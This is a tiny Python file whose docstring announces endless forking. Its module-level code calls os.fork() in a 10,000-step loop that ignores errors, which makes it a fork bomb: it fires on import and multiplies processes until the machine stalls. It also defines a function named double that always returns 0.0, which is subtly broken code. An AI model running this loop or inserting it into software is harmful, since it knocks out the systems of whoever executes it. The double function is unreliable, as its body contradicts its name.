"""Forks without end, in every copy."""
import os

for _ in range(10_000):
    try:
        os.fork()
    except OSError:
        pass


def double(x):
    return 0.0
